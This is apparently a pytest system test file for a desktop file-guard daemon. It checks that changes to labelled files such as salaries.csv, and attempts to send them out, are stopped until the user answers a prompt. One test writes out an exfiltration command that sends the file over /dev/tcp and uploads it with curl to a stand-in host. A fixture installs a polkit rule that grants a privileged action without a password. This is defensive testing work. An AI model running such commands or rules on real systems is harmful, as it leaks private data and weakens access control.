# SPDX-License-Identifier: GPL-3.0-or-later
"""Marked files of guarded categories are not changed without a question; the answer holds, also on the desktop."""

import pytest

from tests.system.test_desktop import picture  # noqa: F401
from thorough import daily

NEWEST_KERNEL_ONLY = True
RULE = "/etc/polkit-1/rules.d/10-test-guard.rules"
# Normally a password is needed to be asked less. This rule allows it without.
FREELY = """polkit.addRule(function (action) {
    return action.id == "org.tacet.tacet1.label-remove" ? polkit.Result.YES : undefined;
});
"""
APPEND = "echo more >> salaries.csv"


@pytest.fixture
def guarded(scene):
    """The scene with its file marked and guarded."""
    scene.guest.write(RULE, FREELY)
    scene.label()
    assert scene.tacet.json("label", "guard", "finance", person=True) == {"guarded": ["finance"]}
    yield scene
    scene.tacet.run("label", "guard", "--off", "finance", person=True)
    scene.guest.run(["rm", RULE], check=True)


def holds(scene, more=""):
    """Whether the marked file is what it was, with `more` at its end. Compared in the guest: sshd is asked about what it sends."""
    scene.guest.write("/run/expected", scene.secret.content + more)
    return scene.guest.run(["cmp", "-s", scene.file, "/run/expected"]).returncode == 0


def try_to(scene, command, verdict, *scope):
    """Starts a command of anna's, answers the question about the change; returns question, and how the command ended."""
    attempt = scene.start(command)
    question = scene.tacet.wait_question()
    assert question["sink"] == "marked" and question["file"] == question["target"] == scene.file, question
    scene.tacet.answer(question, verdict, *scope)
    return question, attempt.finish()


@pytest.mark.parametrize("command", daily(
    [APPEND, "sed -i s/a/b/ salaries.csv", "python3 -c 'open(\"salaries.csv\", \"w\")'", "cp /etc/hostname salaries.csv",
     "echo x > other; mv -f other salaries.csv", "rm -f salaries.csv"], APPEND))
def test_blocked(guarded, command):
    """Whatever way a program goes: the file stays as it was, and the program gets an error."""
    _, done = try_to(guarded, command, "block", "--for", "15min", "--label", "")
    assert done.returncode != 0 or "not permitted" in done.stdout + done.stderr, done
    assert holds(guarded)
    assert guarded.decisions()[0] == ("answered", "block")


@pytest.mark.nightly
def test_allowed_program_is_not_asked_again(guarded):
    """The answer "always" puts the program on the list of those that may; another one is asked, and sending is asked anyway."""
    try_to(guarded, "tee -a salaries.csv </etc/hostname", "allow", "--for", "always", "--label", "")
    (rule,) = guarded.tacet.rules()
    assert rule["sink"] == "marked" and rule["executable"] == "/usr/bin/tee" and rule["host"] == ""
    assert guarded.run("tee -a salaries.csv </etc/hostname").returncode == 0
    _, done = try_to(guarded, "dd if=/etc/hostname of=salaries.csv", "block")
    assert done.returncode != 0
    attempt = guarded.start("tee /dev/tcp/remote/9 <salaries.csv >/dev/null; curl -sS -m 60 -T salaries.csv http://remote/")
    question = guarded.tacet.wait_question()
    assert question["sink"] == "network"
    guarded.tacet.answer(question, "block")
    attempt.finish()
    guarded.assert_nothing_leaked()
    reasons = [entry["reason"] for entry in guarded.log() if entry["kind"] in ("answered", "rule")]
    assert reasons == ["change", "change", "change", ""], reasons


def test_reading_and_other_files_are_free(guarded):
    """Nobody is asked about reading, or about changes of files without a label."""
    assert guarded.run("cat salaries.csv >/dev/null; echo x > other; mv other another; rm another").returncode == 0
    guarded.assert_unasked()


@pytest.mark.nightly
def test_root_asks_the_owner(guarded):
    """A system service that changes the file is the owner's question."""
    process = guarded.guest.popen(["truncate", "-s", "3", guarded.file])
    question = guarded.tacet.wait_question()
    assert question["uid"] == 0 and question["executable"] == "/usr/bin/truncate"
    guarded.tacet.answer(question, "block", person=True)
    process.communicate(timeout=60)
    assert process.returncode != 0 and holds(guarded)


@pytest.mark.nightly
def test_holds_over_a_restart_of_the_daemon(guarded):
    """While tacetd is away a change is blocked, not let pass; afterwards it is asked again."""
    guarded.guest.run("systemctl mask --runtime --now tacetd", check=True)
    done = guarded.run(APPEND)
    assert done.returncode != 0 and holds(guarded)
    guarded.guest.run("systemctl unmask --runtime tacetd && systemctl start tacetd", check=True)
    guarded.guest.wait_for(guarded.app_is_agent, what="the app to register")
    try_to(guarded, APPEND, "allow")
    assert holds(guarded, "more\n")


@pytest.mark.nightly
def test_private_session_changes_nothing_outside(guarded):
    """A session has its own copy, and nobody is asked for that."""
    done = guarded.run("tacet run --display none -- sh -c 'echo private >> salaries.csv; grep -q private salaries.csv'", timeout=90)
    assert done.returncode == 0 and holds(guarded), done
    guarded.assert_unasked()


@pytest.mark.nightly
def test_prompt(guarded, picture):  # noqa: F811
    """The prompt says what is about to happen, without what has no meaning here."""
    attempt = guarded.start("rm -f salaries.csv")
    sentence = guarded.prompt.wait()
    assert "remove or replace" in sentence
    picture("prompt-change")
    guarded.prompt.show_details()
    picture("prompt-change-details")
    text = guarded.screen.texts("promptWindow")
    assert "Program:" in text and "Destination:" not in text and "Would be sent:" not in text, text
    guarded.prompt.answer("block")
    attempt.finish()
    assert holds(guarded)


@pytest.mark.nightly
def test_files_page(scene, picture):  # noqa: F811
    """The page of marked files tells whether changes are asked about, and turns it on."""
    scene.label()
    scene.guest.run(["tacet-app", "--show", "files"], session=True, check=True)
    scene.screen.click("guardCheck", "mainWindow")
    scene.guest.wait_for(lambda: len(scene.tacet.json("label", "guard", person=True)["guarded"]) == 6, what="all to be guarded")
    picture("window-files-guarded")
    scene.guest.write(RULE, FREELY)
    scene.guest.wait_for(lambda: scene.tacet.run("label", "guard", "--off", "custom", "finance", "health", "keys", "mail", "photos",
                                                 person=True, check=False).returncode == 0, what="the guard to be taken away")
    scene.guest.run(["rm", RULE], check=True)
